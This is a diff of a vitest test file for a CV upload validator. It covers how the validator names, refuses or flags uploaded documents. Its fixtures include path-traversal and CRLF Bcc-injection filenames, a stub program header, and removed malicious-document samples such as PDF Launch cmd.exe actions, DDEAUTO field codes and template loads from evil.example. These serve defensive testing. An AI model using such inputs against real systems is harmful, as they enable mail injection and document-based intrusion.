@@ -1,7 +1,6 @@
-import { deflateSync } from 'node:zlib';
 import { expect, test } from 'vitest';
 import { validateCv } from '../../netlify/forms/cv.ts';
-import { compoundFile, docx, odt, PHOTOS } from './cv-files.ts';
+import { compoundFile, docx, odt, PHOTOS, zipped } from './cv-files.ts';
 
 const PDF = Buffer.from('%PDF-1.7\n');
 const DOC = compoundFile('WordDocument', '1Table');
@@ -12,6 +11,7 @@ const attach = (bytes: BlobPart, name = 'Asha Rao') =>
 test.each([
   ['Asha Rao', PDF, 'CV Asha Rao.pdf'],
   ['आशा राव', PDF, 'CV आशा राव.pdf'],
+  ['ക്രിസ്\u200Dതീന', PDF, 'CV ക്രിസ്\u200Dതീന.pdf'],
   ['../../etc/passwd', PDF, 'CV etc passwd.pdf'],
   ['evil\r\nBcc: x@y.z', PDF, 'CV evil Bcc x y z.pdf'],
   ['x'.repeat(200), PDF, `CV ${'x'.repeat(80)}.pdf`],
@@ -19,110 +19,82 @@ test.each([
   ['Asha Rao', DOC, 'CV Asha Rao.doc'],
 ])('the CV of %j is attached with their name and its real type', async (name, bytes, filename) => {
   const { cv } = await attach(bytes, name);
-  expect(cv).toMatchObject({ filename, content: bytes.toString('base64') });
+  expect(cv?.attachment.filename).toBe(filename);
+  expect(Buffer.from(cv?.bytes ?? new ArrayBuffer(0))).toEqual(bytes);
 });
 
 const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+const many = Object.fromEntries(Array.from({ length: 6000 }, (_, index) => [`${index}.xml`, '']));
+const TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
 
 test.each([
-  ['a program', 'cvType', Buffer.from('MZ\u0000\u0000')],
+  ['a program', 'cvType', Buffer.from('MZ\u0000\u0000%PDF-1.7')],
   ['an HTML page', 'cvType', Buffer.from('<!doctype html><script>alert(1)</script>')],
-  ['a page before a PDF', 'cvType', Buffer.from('<html></html>%PDF-1.7\n')],
+  ['a PDF behind 2 kB of something else', 'cvType', Buffer.from(`${'x'.repeat(2000)}%PDF-1.7\n`)],
   ['a spreadsheet in the older Office format', 'cvType', compoundFile('Workbook')],
   [
     'such a spreadsheet with the word in a cell',
     'cvType',
     Buffer.concat([compoundFile('Workbook'), Buffer.from('WordDocument', 'utf16le')]),
   ],
-  ['a DOCX with two lists of content types', 'cvType', docx({ '[CONTENT_TYPES].XML': 'x' })],
-  ['a DOCX cut off in the middle', 'cvType', docx().subarray(0, -30)],
   ['an OpenDocument spreadsheet', 'cvType', odt('spreadsheet')],
   ['a GIF', 'cvType', Buffer.from('GIF89a')],
-  ['empty', 'cvType', Buffer.alloc(0)],
+  ['empty', 'cvEmpty', Buffer.alloc(0)],
+  ['larger than 3 MB', 'cvSize', Buffer.concat([PDF], 3 * 1024 * 1024 + 1)],
+  ['a DOCX with two lists of content types', 'cvUnreadable', docx({ '[CONTENT_TYPES].XML': 'x' })],
+  ['a DOCX cut off in the middle', 'cvUnreadable', docx().subarray(0, -30)],
+  ['a DOCX with 6,000 parts', 'cvUnreadable', docx(many)],
+  [
+    'a DOCX whose list is cut off',
+    'cvUnreadable',
+    docx({ '[Content_Types].xml': `<Types><Override ContentType="${TYPE}"/>` }),
+  ],
+  ['a DOCX with a password', 'cvUnreadable', compoundFile('EncryptedPackage', 'EncryptionInfo')],
   ['a DOC with macros', 'cvMacros', compoundFile('WordDocument', 'Macros', 'VBA')],
-  ['a DOCX with macros', 'cvMacros', docx({ 'word/vbaProject.bin': 'x' })],
   ['a DOCM', 'cvMacros', docx({}, MACRO_TYPE)],
+  [
+    'a DOCM in UTF-16',
+    'cvType',
+    zipped({
+      '[Content_Types].xml': utf16(
+        `<Types><Override ContentType="${TYPE}"/><Override ContentType="${MACRO_TYPE}"/></Types>`,
+      ),
+      'word/document.xml': '',
+    }),
+  ],
   ['an ODT with macros', 'cvMacros', odt('text', { 'Basic/Standard/Module1.xml': 'x' })],
-])('a CV that is %s is rejected: %s', async (_what, problem, bytes) => {
+])('a CV that is %s is refused: %s', async (_what, problem, bytes) => {
   expect(await attach(bytes)).toEqual({ problem });
 });
 
 test.each([
-  ['pdf', Buffer.from('\r\n\n%PDF-1.4\n/OpenAction [3 0 R /Fit] (HTML/CSS/JavaScript)')],
+  ['pdf', Buffer.from('\r\n\n%PDF-1.4\n')],
+  ['pdf', Buffer.from(`${'printed by a program\n'.repeat(45)}%PDF-1.4\n`)],
   ['doc', DOC],
   ['docx', docx({ 'word/media/photo.jpeg': 'x' })],
   ['odt', odt('text')],
   ['rtf', Buffer.from('{\\rtf1 Asha {\\pict\\pngblip 89504e47}}')],
   ...Object.entries(PHOTOS),
-])('a plain %s is attached without a warning', async (extension, bytes) => {
-  const { cv, warnings } = await attach(bytes);
-  expect(cv?.filename).toBe(`CV Asha Rao.${extension}`);
-  expect(warnings).toEqual([]);
+])('a %s is attached', async (extension, bytes) => {
+  expect((await attach(bytes)).cv?.attachment.filename).toBe(`CV Asha Rao.${extension}`);
 });
 
-const RELS = 'word/_rels/settings.xml.rels';
-const rels = (xml: string | Buffer) => docx({ [RELS]: xml });
-const relationship = (type: string, target: string) =>
-  rels(`<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`);
-const document = (xml: string) => docx({ 'word/document.xml': `<w:document>${xml}</w:document>` });
-const content = (xml: string) =>
-  odt('text', { 'content.xml': `<office:document>${xml}</office:document>` });
-const pdf = (text: string) => Buffer.from(`%PDF-1.7\n${text}`, 'latin1');
-const rtf = (text: string) => Buffer.from(`{\\rtf1 ${text}}`);
-const TEMPLATE = 'Type="http://x/attachedTemplate"';
-const LOADED = `<Relationship ${TEMPLATE} Target="http://evil.example"/>`;
-const instructions = (...parts: string[]) =>
-  parts.map((part) => `<w:instrText>${part}</w:instrText>`).join('');
-const WITH_DDE = Buffer.concat([DOC, Buffer.from('\x13 DDEAUTO c', 'utf16le')]);
-const objectStream = Buffer.concat([
-  pdf('1 0 obj <</Type/Obj#53tm/Filter/FlateDecode>>stream\n'),
-  deflateSync('1 0 <</S/JavaScript/JS(x)>>'),
-  Buffer.from('\nendstream endobj'),
-]);
-
-test.each([
-  ['contains a script', pdf('<< /S /J#61vaScript >>')],
-  ['contains a script', pdf('<< /S %x\n /JavaScript >>')],
-  ['contains a script', pdf('<< /Names 4 0 R/JS 5 0 R >>')],
-  ['contains a script', pdf('<< /AcroForm << /XFA [] >> >>')],
-  ['contains a script', objectStream],
-  ['starts another program', pdf('<< /S/Launch /F (cmd.exe) >>')],
-  ['contains an embedded object', pdf('<< /Type/EmbeddedFile >>')],
-  ['sends or fetches data', pdf('<< /S /SubmitForm /F (http://evil.example) >>')],
-  ['opens another document', pdf('<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>')],
-  ['is encrypted', pdf('trailer << /Encrypt 5 0 R >>')],
-  ['contains an embedded object', rtf('{\\object{\\*\\objdata 0105}}')],
-  ['contains an embedded object', rtf('{\\object\\objocx x}')],
-  ['loads a template', rtf('{\\*\\template http://evil.example/t.dotm}')],
-  ['loads a template', rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}')],
-  ['asks another program', rtf("{\\field{\\*\\fldinst {\\b D}\\'44E\\u65?UTO c cmd}}")],
-  ['contains an embedded object', compoundFile('WordDocument', '\u0001Ole10Native')],
-  ['asks another program', WITH_DDE],
-  ['contains an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
-  ['contains an embedded object', docx({ 'word/activeX/activeX1.bin': 'x' })],
-  ['contains an embedded object', document('<w:altChunk r:id="rId1"/>')],
-  ['loads a template', relationship('attachedTemplate', 'https://evil.example/t.dotm')],
-  ['loads a template', relationship('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
-  ['loads a template', relationship('image', '//evil.example/x.png')],
-  ['loads a template', rels(`<Relationship ${TEMPLATE} Target = 'https://evil.example/t' />`)],
-  ['loads a template', rels(`<a:Relationship ${TEMPLATE} Target="&#104;ttps://evil.example/"/>`)],
-  ['loads a template', docx({ 'word/_rels/footer9.xml.rels': LOADED })],
-  ['loads a template', rels(Buffer.from(`\ufeff${LOADED}`, 'utf16le'))],
-  ['asks another program', document(instructions('DD', 'EAUTO c'))],
-  ['asks another program', document(`${instructions('PAGE')}<w:fldChar/>${instructions('DDE c')}`)],
-  ['asks another program', document('<w:fldSimple w:instr="DDE c cmd"/>')],
-  ['contains a script', content('<script:event-listener xlink:href="x"/>')],
-  ['contains an embedded object', content('<draw:object-ole/>')],
-  ['loads a template', content('<draw:image xlink:href="https://evil.example/x.png"/>')],
-  ['asks another program', content('<text:dde-connection-decl/>')],
-  ['is too large', docx({ 'word/comments.xml': 'x'.repeat(3_000_000) })],
-  ['', relationship('attachedTemplate', 'file:///C:\\Users\\Asha\\Normal.dotm')],
-  ['', relationship('hyperlink', 'https://github.com/asha')],
-  ['', document('<w:t>DDE, scripts, https://github.com/asha</w:t>')],
-  ['', content('<text:a xlink:href="https://github.com/asha"/><office:scripts/>')],
-  ['', pdf('(HTML/CSS/JavaScript) /Link /URI (https://github.com/asha) /JSON /Launches')],
-  ['', rtf('{\\field{\\*\\fldinst HYPERLINK "https://github.com/asha"}} DDE')],
-])('the email says that a CV %s (%#)', async (warning, bytes) => {
-  const { warnings = [] } = await attach(bytes);
-  expect(warnings.join('; ')).toMatch(warning ? new RegExp(`^(.*; )?it ${warning}`) : /^$/);
-});
+test('no file takes two seconds or 100 MB', async () => {
+  const random = Buffer.from(Array.from({ length: 3_000_000 }, (_, index) => (index * 7919) % 251));
+  const bomb = docx({ '[Content_Types].xml': Buffer.alloc(200_000_000) });
+  const types = '<Override/>'.repeat(20_000);
+  for (const bytes of [
+    Buffer.concat([PDF, random], 3_000_000),
+    Buffer.concat([DOC, random], 3_000_000),
+    Buffer.concat([Buffer.from('{\\rtf1 '), random], 3_000_000),
+    docx({ '[Content_Types].xml': `<Types>${types}</Types>` }),
+    docx({ 'word/document.xml': Buffer.alloc(100_000_000) }),
+    bomb,
+  ]) {
+    const before = [process.cpuUsage(), process.memoryUsage().rss] as const;
+    await attach(bytes);
+    expect(process.cpuUsage(before[0]).user / 1e6).toBeLessThan(2);
+    expect((process.memoryUsage().rss - before[1]) / 1e6).toBeLessThan(100);
+  }
+}, 60_000);
